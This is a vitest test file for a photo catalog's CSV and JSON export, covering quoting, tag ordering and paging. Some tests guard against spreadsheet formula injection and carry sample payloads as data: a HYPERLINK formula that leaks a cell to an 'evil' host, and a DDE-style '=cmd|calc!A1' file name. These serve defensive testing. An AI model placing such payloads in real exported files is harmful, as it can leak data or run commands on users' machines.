import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openCatalog, type Catalog } from '../../main/catalog/catalog-connection.ts';
import {
  csvColumns,
  csvField,
  exportPhotos,
  parseCsv,
  writeCsv,
  writeJson,
  type ExportPhoto,
} from '../../main/catalog/catalog-export.ts';
import { insertContent } from '../../main/catalog/contents.ts';
import { saveEngineAnswer, upsertTag } from '../../main/catalog/photo-tags.ts';
import { savePhotoText } from '../../main/catalog/photo-text.ts';
import { setPhotoIngested, upsertPhoto } from '../../main/catalog/photos.ts';

let dir: string;
let db: Catalog;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'tujian-export-'));
  db = openCatalog(join(dir, 'catalog.sqlite'));
});
afterEach(() => {
  db.close();
  rmSync(dir, { recursive: true, force: true });
});

function addFolderRow(path: string): number {
  return (
    db.prepare(`INSERT INTO folders (path, added_at) VALUES (?, 0) RETURNING id`).get(path) as {
      id: number;
    }
  ).id;
}

function addPhoto(
  folderId: number,
  relPath: string,
  facts: { hash: string; camera?: string; takenAt?: number; lat?: number; lon?: number },
): { photoId: number; contentId: number } {
  const photoId = upsertPhoto(db, { folderId, relPath, size: 10, mtimeMs: 1, status: 'pending' });
  const { id: contentId } = insertContent(
    db,
    {
      hash: facts.hash,
      size: 10,
      format: 'jpeg',
      width: 640,
      height: 480,
      orientation: 1,
      takenAt: facts.takenAt ?? null,
      camera: facts.camera ?? null,
      lat: facts.lat ?? null,
      lon: facts.lon ?? null,
      hasPreview: true,
    },
    0,
  );
  setPhotoIngested(db, photoId, { contentId, size: 10, mtimeMs: 1, at: 1 });
  return { photoId, contentId };
}

/** A catalog with awkward values: commas, quotes, newlines, Chinese, a rejected tag. */
function seed(): { dog: number; plain: number } {
  const a = addFolderRow('/photos/holiday, 2023');
  const b = addFolderRow('/photos/b');
  const dog = addPhoto(a, 'day 1/"best" dog,\nshot.jpg', {
    hash: 'a'.repeat(64),
    camera: 'Canon, "EOS" 5D',
    takenAt: Date.UTC(2023, 4, 1, 12, 30, 5),
    lat: 31.2304,
    lon: 121.4737,
  });
  saveEngineAnswer(
    db,
    dog.contentId,
    {
      engine: 'local',
      model: 'coco-ssd',
      tags: [
        {
          name: 'dog',
          i18n: { zh: '狗', en: 'dog' },
          type: 'object',
          confidence: 97.26,
          instances: [],
        },
        {
          name: 'beach',
          i18n: { zh: '海滩', en: 'beach' },
          type: 'scene',
          confidence: 55,
          instances: [],
        },
        {
          name: 'cat',
          i18n: { zh: '猫', en: 'cat' },
          type: 'object',
          confidence: 40,
          instances: [],
        },
      ],
    },
    'k',
  );
  db.prepare(
    `UPDATE photo_tags SET state = 'rejected' WHERE tag_id = (SELECT id FROM tags WHERE name = 'cat')`,
  ).run();
  const mine = upsertTag(db, { name: 'grandma', type: 'concept', zh: '外婆', en: 'grandma' });
  db.prepare(
    `INSERT INTO photo_tags (content_id, tag_id, engine, model, confidence, state, created_at)
     VALUES (?, ?, 'user', 'user', 100, 'user', 0)`,
  ).run(dog.contentId, mine);
  const plain = addPhoto(b, 'untagged.jpg', { hash: 'b'.repeat(64) });
  return { dog: dog.photoId, plain: plain.photoId };
}

function collect(fn: (write: (chunk: string) => void) => void): string {
  let out = '';
  fn((chunk) => {
    out += chunk;
  });
  return out;
}

describe(exportPhotos.name, () => {
  it('exports every photo with its non-rejected tags, user tags first', () => {
    seed();
    const photos = [...exportPhotos(db)];
    expect(photos.map((p) => p.path)).toEqual([
      '/photos/b/untagged.jpg',
      '/photos/holiday, 2023/day 1/"best" dog,\nshot.jpg',
    ]);
    const dog = photos[1] as ExportPhoto;
    expect(dog).toMatchObject({
      hash: 'a'.repeat(64),
      camera: 'Canon, "EOS" 5D',
      takenAt: '2023-05-01T12:30:05',
      lat: 31.2304,
      lon: 121.4737,
    });
    expect(dog.tags.map((t) => [t.name, t.zh, t.engine, t.confidence, t.state])).toEqual([
      ['grandma', '外婆', 'user', 100, 'user'],
      ['dog', '狗', 'local', 97.3, 'auto'],
      ['beach', '海滩', 'local', 55, 'auto'],
    ]);
    expect(photos[0]?.tags).toEqual([]);
  });

  it('exports only the given photos, and pages through big catalogs', () => {
    const { dog } = seed();
    expect([...exportPhotos(db, [dog])].map((p) => p.id)).toEqual([dog]);
    expect([...exportPhotos(db, [])]).toEqual([]);
    const folder = addFolderRow('/big');
    const insert = db.prepare(
      `INSERT INTO photos (folder_id, rel_path, size, mtime_ms, status) VALUES (?, ?, 1, 1, 'pending')`,
    );
    db.transaction(() => {
      for (let i = 0; i < 2500; i++) insert.run(folder, `f${String(i).padStart(5, '0')}.jpg`);
    })();
    const all = [...exportPhotos(db)];
    expect(all).toHaveLength(2502);
    expect(new Set(all.map((p) => p.id)).size).toBe(2502);
  });
});

describe(writeCsv.name, () => {
  it('writes RFC 4180 CSV that parses back to the same values', () => {
    seed();
    const csv = collect((write) => writeCsv(exportPhotos(db), write));
    expect(csv.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(csv);
    expect(header).toEqual(csvColumns.tags);
    // One row for the untagged photo, one per tag of the other.
    expect(rows).toHaveLength(4);
    const col = (name: string) => csvColumns.tags.indexOf(name);
    const dogRows = rows.filter((r) => r[col('hash')] === 'a'.repeat(64));
    expect(dogRows.map((r) => [r[col('tag')], r[col('tag_zh')], r[col('confidence')]])).toEqual([
      ['grandma', '外婆', '100'],
      ['dog', '狗', '97.3'],
      ['beach', '海滩', '55'],
    ]);
    expect(dogRows[0]?.[col('path')]).toBe('/photos/holiday, 2023/day 1/"best" dog,\nshot.jpg');
    expect(dogRows[0]?.[col('camera')]).toBe('Canon, "EOS" 5D');
    expect(dogRows[0]?.[col('taken_at')]).toBe('2023-05-01T12:30:05');
    expect(dogRows[0]?.[col('lat')]).toBe('31.2304');
    const untagged = rows.find((r) => r[col('rel_path')] === 'untagged.jpg');
    expect(untagged?.[col('tag')]).toBe('');
    expect(csv).not.toMatch(/cat|猫/);
  });

  it('writes one row per photo in the photos layout', () => {
    seed();
    const [header, ...rows] = parseCsv(
      collect((write) => writeCsv(exportPhotos(db), write, 'photos')),
    );
    expect(header).toEqual(csvColumns.photos);
    expect(rows.map((r) => r.slice(-3, -1))).toEqual([
      ['', ''],
      ['grandma; dog; beach', '外婆; 狗; 海滩'],
    ]);
    expect(rows.map((r) => r.at(-1))).toEqual(['', '']);
  });

  it('exports the text read in a photo, line by line, in JSON and the photos layout', () => {
    const { dog } = seed();
    const dogContent = db
      .prepare<[number], number>(`SELECT content_id FROM photos WHERE id = ?`)
      .pluck()
      .get(dog);
    savePhotoText(db, dogContent ?? 0, {
      engine: 'text',
      model: 't1',
      tags: [],
      text: {
        lines: ['小心狗', '=HYPERLINK("x")'].map((text) => ({
          text,
          box: [
            [0, 0],
            [1, 0],
            [1, 1],
            [0, 1],
          ] as [number, number][],
          confidence: 90,
          language: 'mixed' as const,
        })),
      },
    });
    const photos = [...exportPhotos(db)];
    expect(photos.map((p) => p.text)).toEqual(['', '小心狗\n=HYPERLINK("x")']);
    const [, , row] = parseCsv(collect((write) => writeCsv(exportPhotos(db), write, 'photos')));
    // text from pixels is untrusted like a file name: a cell starting with = is neutralised
    expect(row?.at(-1)).toBe('小心狗\n=HYPERLINK("x")');
  });

  it('quotes exactly the fields that need it', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(' padded')).toBe('" padded"');
    expect(csvField(null)).toBe('');
    expect(csvField(12.5)).toBe('12.5');
  });

  it('neutralises text cells a spreadsheet would run as formulas, and keeps numbers numbers', () => {
    expect(csvField('=HYPERLINK("http://evil/?"&A1)')).toBe('"\'=HYPERLINK(""http://evil/?""&A1)"');
    expect(csvField('+1+1')).toBe('"\'+1+1"');
    expect(csvField('-2+3')).toBe('"\'-2+3"');
    expect(csvField('@SUM(A1:A9)')).toBe('"\'@SUM(A1:A9)"');
    expect(csvField('\t=1')).toBe('"\'\t=1"');
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    // Text that only looks like a negative number is text: neutralised too.
    expect(csvField('-1')).toBe('"\'-1"');
    // Numbers we write (GPS south and west of zero) stay numbers.
    expect(csvField(-33.8568)).toBe('-33.8568');
    expect(csvField(-151.2153)).toBe('-151.2153');
    // A formula character later in the cell is harmless.
    expect(csvField('a=b')).toBe('a=b');
  });

  it('writes a photo named like a formula with its tags as text cells', () => {
    let text = '';
    writeCsv(
      [
        {
          id: 1,
          path: '/photos/=cmd|calc!A1.jpg',
          folder: '/photos',
          relPath: '=cmd|calc!A1.jpg',
          status: 'ok',
          folderStatus: 'online',
          hash: null,
          size: 1,
          format: 'jpeg',
          width: 10,
          height: 10,
          takenAt: null,
          camera: '@camera',
          lat: -33.8568,
          lon: 151.2153,
          tags: [],
          text: '=1+1',
        },
      ],
      (chunk) => (text += chunk),
      'photos',
    );
    const [, row] = parseCsv(text);
    expect(row).toEqual([
      '/photos/=cmd|calc!A1.jpg',
      '/photos',
      "'=cmd|calc!A1.jpg",
      'ok',
      '',
      '',
      "'@camera",
      '-33.8568',
      '151.2153',
      '10',
      '10',
      '',
      '',
      "'=1+1",
    ]);
    expect(text).toContain(',-33.8568,151.2153,');
  });
});

describe(writeJson.name, () => {
  it('writes a JSON array that parses back to the exported photos', () => {
    seed();
    const json = collect((write) => writeJson(exportPhotos(db), write));
    expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify([...exportPhotos(db)])));
    expect(JSON.parse(collect((write) => writeJson([], write)))).toEqual([]);
  });
});
